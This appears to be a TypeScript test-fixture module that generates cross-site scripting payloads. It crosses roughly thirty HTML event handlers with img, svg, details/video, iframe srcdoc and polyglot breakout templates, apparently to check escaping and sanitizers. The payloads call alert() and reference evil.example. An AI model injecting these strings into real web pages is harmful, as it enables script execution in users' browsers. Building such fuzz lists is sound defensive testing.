import { HOSTILE_STRINGS } from '../hostile-strings.ts'

const HANDLERS = [
  'onabort onauxclick onbeforetoggle onblur oncanplay onchange onclick oncontextmenu ondblclick ondrag ondrop onerror',
  'onfocus onfocusin ongotpointercapture oninput oninvalid onkeydown onload onloadstart onmessage onmousedown onmouseenter',
  'onpageshow onpaste onpointerdown onpointerover onresize onscroll onscrollend onselect onsubmit ontoggle ontransitionend',
]
  .join(' ')
  .split(' ')

/** Elements that load, run or frame something, each with a place for a handler. */
const ELEMENTS: readonly ((handler: string) => string)[] = [
  (handler) => `<img src=https://evil.example/${handler} ${handler}=alert(1)>`,
  (handler) => `"><svg ${handler}="alert(1)"><animate ${handler}=alert(2) attributeName=x dur=1s>`,
  (handler) => `'><details open ${handler}=alert(1)><video src=x ${handler}=alert(2)>`,
  (handler) => `<iframe srcdoc="<script>parent.alert(1)</script>" ${handler}=alert(1)></iframe>`,
  (handler) =>
    `javascript:/*--></title></style></textarea></script><svg/${handler}='+/"/+/${handler}=1/+/[*/[]/+alert(1)//'>`,
]

/** Strings that run or fetch something where a writer forgets to escape: those written by hand, and elements by handler. */
export const PAYLOADS: readonly string[] = [
  ...HOSTILE_STRINGS,
  ...HANDLERS.flatMap((handler) => ELEMENTS.map((element) => element(handler))),
]
